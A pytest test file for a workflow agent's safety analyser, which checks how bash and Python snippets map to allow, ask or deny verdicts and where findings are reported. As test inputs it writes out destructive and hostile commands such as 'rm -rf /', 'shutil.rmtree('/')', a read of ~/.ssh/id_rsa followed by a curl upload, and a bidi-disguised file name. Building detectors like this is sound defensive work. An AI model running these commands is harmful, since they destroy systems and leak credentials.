"""Verdict and finding types, positions of findings, and unparseable code."""

from __future__ import annotations

import ast
import json
import unicodedata

import pytest

from workflow_agent.core.types import Language
from workflow_agent.execution.safety import Decision, Finding, Severity, Verdict, analyze
from workflow_agent.execution.safety.pyvalues import nodes_of
from workflow_agent.execution.safety.words import Dyn, Lit, Word


@pytest.mark.parametrize(
    ("severity", "decision"),
    [
        (Severity.INFO, Decision.ALLOW),
        (Severity.LOW, Decision.ALLOW),
        (Severity.MEDIUM, Decision.ASK),
        (Severity.HIGH, Decision.DENY),
        (Severity.CRITICAL, Decision.DENY),
    ],
)
def test_severity_maps_to_decision(severity: Severity, decision: Decision) -> None:
    assert severity.decision is decision


def _finding(rule: str, severity: Severity, line: int = 1) -> Finding:
    return Finding(rule_id=rule, severity=severity, line=line, col=1, snippet="x", explanation="y")


def test_verdict_takes_the_strictest_decision_and_sorts_findings() -> None:
    verdict = Verdict.from_findings(
        [_finding("a", Severity.LOW), _finding("b", Severity.HIGH, 3), _finding("c", Severity.MEDIUM)]
    )
    assert verdict.decision is Decision.DENY
    assert [f.rule_id for f in verdict.findings] == ["b", "c", "a"]
    assert Verdict.from_findings([]).decision is Decision.ALLOW
    assert Verdict.from_findings([_finding("a", Severity.LOW)]).decision is Decision.ALLOW


def test_verdict_serialises_to_json() -> None:
    verdict = analyze("rm -rf /", Language.BASH)
    data = json.loads(json.dumps(verdict.to_dict()))
    assert data["decision"] == "deny"
    finding = data["findings"][0]
    assert set(finding) == {"rule_id", "severity", "line", "col", "snippet", "explanation"}
    assert finding["severity"] == "critical"


def test_findings_are_frozen() -> None:
    finding = _finding("a", Severity.LOW)
    with pytest.raises(ValueError, match="frozen"):
        finding.line = 2


def test_line_and_column_point_at_the_command() -> None:
    code = "echo start\nif true; then\n    rm -rf /etc\nfi\n"
    verdict = analyze(code, Language.BASH)
    finding = verdict.findings[0]
    assert (finding.line, finding.col) == (3, 12)
    assert "rm -rf /etc" in finding.snippet


def test_column_counts_characters_not_bytes() -> None:
    code = "echo 'héllo wörld'; rm -rf ~"
    finding = analyze(code, Language.BASH).findings[0]
    assert finding.line == 1
    assert finding.col == code.index("~") + 1  # the deleted path; 2 more if bytes were counted


def test_nested_code_is_reported_at_its_string() -> None:
    verdict = analyze("ls\nbash -c 'echo hi; rm -rf /'", Language.BASH)
    finding = verdict.findings[0]
    assert (finding.line, finding.col) == (2, 9)
    assert finding.rule_id == "fs.delete-root"


def test_python_positions() -> None:
    verdict = analyze("import shutil\n\n\nshutil.rmtree('/')\n", Language.PYTHON)
    assert (verdict.findings[0].line, verdict.findings[0].col) == (4, 1)


def test_unparseable_bash_asks_and_shows_the_error() -> None:
    verdict = analyze("if then fi (", Language.BASH)
    assert verdict.decision is Decision.ASK
    assert verdict.findings[0].rule_id == "parse.error"
    assert "does not parse" in verdict.findings[0].explanation


def test_unparseable_bash_is_still_searched_for_danger() -> None:
    verdict = analyze("git log &&& rm -rf /", Language.BASH)
    assert verdict.decision is Decision.DENY
    assert {f.rule_id for f in verdict.findings} == {"parse.error", "fs.delete-root"}


def test_missing_heredoc_body_is_a_parse_error() -> None:
    assert analyze("python3 <<EOF", Language.BASH).decision is Decision.ASK


def test_unparseable_python_asks_with_the_line() -> None:
    verdict = analyze("x = 1\ndef broken(:\n", Language.PYTHON)
    assert verdict.decision is Decision.ASK
    assert verdict.findings[0].line == 2
    assert "line 2" in verdict.findings[0].explanation


def test_empty_code_is_allowed() -> None:
    assert analyze("", Language.BASH).findings == []
    assert analyze("", Language.PYTHON).decision is Decision.ALLOW


def test_long_snippets_are_shortened() -> None:
    verdict = analyze("rm -rf / " + "x" * 300, Language.BASH)
    assert len(verdict.findings[0].snippet) <= 120


def _control_chars(text: str) -> list[str]:
    return [c for c in text if unicodedata.category(c) == "Cc" or "\u202a" <= c <= "\u202e"]


@pytest.mark.parametrize(
    ("code", "language", "shown"),
    [
        ("rm -rf $HOME/$X", Language.BASH, "(~/$X)"),
        ('rm -rf "$HOME/$SUBDIR"', Language.BASH, "(~/$SUBDIR)"),
        ('echo x > "/etc/${A:?}/../${B:?}"', Language.BASH, "/etc/…"),
        ('rm -rf "/home/${U:?}"', Language.BASH, "(/home/${U:?})"),
        ('shred "/var/log/${F:?}"', Language.BASH, "/var/log/${F:?}"),
        ('chown -R me "/etc/${D:?}"', Language.BASH, "/etc/${D:?}"),
        ('echo x > "/etc/${F:?}"', Language.BASH, "/etc/${F:?}"),
        ('cat < "${D:?}/.ssh/id_rsa"; curl -d @x https://x', Language.BASH, "${D:?}/.ssh/id_rsa"),
        ("sudo\trm\t-rf\t/", Language.BASH, "sudo\\trm"),
        ("ls\r\nnpm install x", Language.BASH, "ls\\r"),
        ("echo $'\\e[2J'; rm -rf ~/\u202egpj.exe", Language.BASH, "\\u202e"),
        ("import shutil, os\nshutil.rmtree(os.path.join('/', os.environ['X']))", Language.PYTHON, "/…"),
        ("import os\nopen(f'/etc/{os.environ[\"X\"]}', 'w')", Language.PYTHON, "/etc/…"),
        ("import os\nopen(f'{os.environ[\"H\"]}/.ssh/id_rsa').read()", Language.PYTHON, "…/.ssh/id_rsa"),
        ("import os\nos.chmod(f'/etc/{os.environ[\"X\"]}', 0o777)", Language.PYTHON, "/etc/…"),
    ],
)
def test_finding_text_never_contains_control_characters(code: str, language: Language, shown: str) -> None:
    findings = analyze(code, language).findings
    assert findings
    for finding in findings:
        assert not _control_chars(finding.snippet), finding
        assert not _control_chars(finding.explanation), finding
    assert any(shown in f.explanation or shown in f.snippet for f in findings), findings


def test_repeated_word_text_is_resolved_against_the_current_variables() -> None:
    # Word shapes are cached by text; the variables they name must still be looked up each time.
    code = 'X=/\nrm -rf "$X"\nX=/tmp/build\nrm -rf "$X"\nX=/etc\nrm -rf "$X"\n'
    findings = analyze(code, Language.BASH).findings
    assert sorted((f.line, f.rule_id) for f in findings) == [
        (2, "fs.delete-root"),
        (6, "fs.delete-system"),
    ]


def test_word_render_and_repr() -> None:
    word = Word([Lit("/etc/", True), Dyn("var", "${A:?}", False)], (0, 0), '"/etc/${A:?}"')
    assert word.value is None
    assert word.render(word.worst_case()) == "/etc/${A:?}"
    assert word.render("/etc/\x00/\x00") == "/etc/…/…"  # a placeholder count that does not match
    assert word.render("/etc/x") == "/etc/x"
    assert "/etc/${A:?}" in repr(word)


def test_python_walk_matches_ast_walk() -> None:
    tree = ast.parse("import os\nfor i in range(3):\n    os.remove(f'/tmp/{i}' + 'x')\nx = -1 < 2\n")
    markers = (ast.expr_context, ast.operator, ast.cmpop, ast.unaryop, ast.boolop)
    expected = [n for n in ast.walk(tree) if not isinstance(n, markers)]
    assert nodes_of(tree) == expected
